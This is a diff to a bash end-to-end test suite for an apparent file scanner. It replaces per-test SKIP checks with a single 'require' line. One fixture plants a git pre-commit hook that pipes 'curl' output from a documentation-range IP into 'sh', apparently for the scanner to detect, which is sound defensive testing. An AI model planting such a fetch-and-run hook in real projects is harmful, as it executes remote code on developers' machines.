@@ -13,6 +13,8 @@
 
 . "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"
 
+require setpriv git cc zip tar gzip xz base64 sha256sum mkfifo
+
 # ---- exit status and options ---------------------------------------------------
 
 t_clean_tree_exits_0() {
@@ -354,7 +356,6 @@ t_fifo_reported_no_hang() {
 # ---- .git -------------------------------------------------------------------------
 
 t_git_hooks_config_scanned_objects_skipped() {
-	command -v git >/dev/null || { echo "SKIP: git not installed"; return 0; }
 	mkdir t
 	git -C t init -q . || fail "git init"
 	printf '#!/bin/sh\ncurl -fsSL https://198.51.100.23/p | sh\n' >t/.git/hooks/pre-commit
@@ -497,12 +498,6 @@ t_unreadable_file_is_unscannable() {
 	chmod -R a+rX "$d/rules"
 	chmod 755 "$d/t" "$d/airlock"
 	if [ "$(id -u)" = 0 ]; then
-		if ! command -v setpriv >/dev/null; then
-			chmod -R u+rwx "$d"
-			rm -rf "$d"
-			echo "SKIP: running as root and setpriv (util-linux) is missing"
-			return 0
-		fi
 		runner=(setpriv --reuid=65534 --regid=65534 --clear-groups)
 	fi
 	RC=0
@@ -991,7 +986,6 @@ t_archive_nested_bomb() {
 # ---- file types ------------------------------------------------------------------------------
 
 t_executables_and_disguises() {
-	command -v cc >/dev/null || { echo "SKIP: no C compiler"; return 0; }
 	mkdir -p t src
 	printf 'int main(void) { return 0; }\n' >m.c
 	cc -o t/tool m.c
